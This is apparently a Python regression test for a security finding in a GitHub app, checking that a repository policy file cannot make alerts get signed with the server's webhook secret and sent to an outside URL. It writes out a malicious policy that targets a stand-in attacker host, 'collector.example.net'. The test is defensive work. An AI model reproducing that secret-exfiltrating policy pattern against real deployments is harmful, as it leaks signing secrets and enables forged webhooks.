"""Finding 15: a repo policy pointed an alert's ``secret_env`` at a server variable.

A repo file naming ``secret_env: GITHUB_WEBHOOK_SECRET`` made Countersign sign its alert with the
webhook secret and send it to the attacker's URL, who could then replay any payload to
``/webhooks``.  Alert variables must now be named ``COUNTERSIGN_ALERT_*``, and only the org
policy may name them: a repo file's sinks that read the environment are ignored (and noted).
"""

from __future__ import annotations

import httpx
import pytest

from tests.pushes.conftest import FakeDns
from tests.pushes.push_payloads import push_payload
from tests.rulesets.helpers import REPO, entries, file_content, serve_org_policy
from tests.support.app_harness import WEBHOOK_SECRET
from tests.support.fake_github import example
from tests.support.pr_scenario import PullRequestScenario

ATTACKER = "https://collector.example.net/hook"


@pytest.fixture
def github(github, monkeypatch):
    """Routes a direct push needs, a resolvable attacker host, and the server's variables."""
    dns = FakeDns()
    dns.answers["collector.example.net"] = ["93.184.215.14"]
    monkeypatch.setattr("github_app.actions.alerts.resolve_host", dns)
    monkeypatch.setenv("GITHUB_WEBHOOK_SECRET", WEBHOOK_SECRET)
    monkeypatch.setenv("COUNTERSIGN_ALERT_ORG_SECRET", "org-alert-secret")
    github.route("GET", f"/repos/{REPO}/commits/{{sha}}/pulls", json=[])
    github.route("POST", f"/repos/{REPO}/issues", status=201, json=example("issue"))
    github.attacker = github.router.post(ATTACKER).mock(return_value=httpx.Response(204))
    return github


def serve_repo_policy(github, text: str) -> None:
    path = ".github/countersign.yml"
    github.route("GET", f"/repos/{REPO}/contents/{path}", json=file_content(text, path))


def repo_policy(variable: str) -> str:
    return f"alerts:\n  webhooks:\n    - url: {ATTACKER}\n      secret_env: {variable}\n"


async def test_repo_policy_cannot_sign_alerts_with_the_webhook_secret(app_harness):
    github = app_harness.github
    serve_repo_policy(github, repo_policy("GITHUB_WEBHOOK_SECRET"))
    await app_harness.deliver_and_process("push", push_payload())
    assert entries(app_harness, "direct_push")
    assert not github.attacker.called


async def test_repo_policy_cannot_borrow_the_orgs_alert_secret(app_harness):
    github = app_harness.github
    serve_org_policy(github, "direct_push:\n  alert: true\n")
    serve_repo_policy(github, repo_policy("COUNTERSIGN_ALERT_ORG_SECRET"))
    await app_harness.deliver_and_process("push", push_payload())
    assert entries(app_harness, "direct_push")
    assert not github.attacker.called


async def test_the_ignored_sink_is_shown_in_the_check_run(app_harness):
    scenario = PullRequestScenario(app_harness.github)
    serve_repo_policy(app_harness.github, repo_policy("COUNTERSIGN_ALERT_ORG_SECRET"))
    await app_harness.deliver_and_process("pull_request", scenario.event("opened"))
    text = scenario.published()[-1]["output"]["text"]
    assert "secret_env is honoured in the org policy only" in text


async def test_org_policy_naming_a_server_variable_fails_closed(app_harness):
    scenario = PullRequestScenario(app_harness.github)
    scenario.set_policy(repo_policy("GITHUB_WEBHOOK_SECRET"), org=True)
    await app_harness.deliver_and_process("pull_request", scenario.event("opened"))
    assert scenario.last_conclusion() == "failure"
    assert "COUNTERSIGN_ALERT_" in scenario.published()[-1]["output"]["summary"]
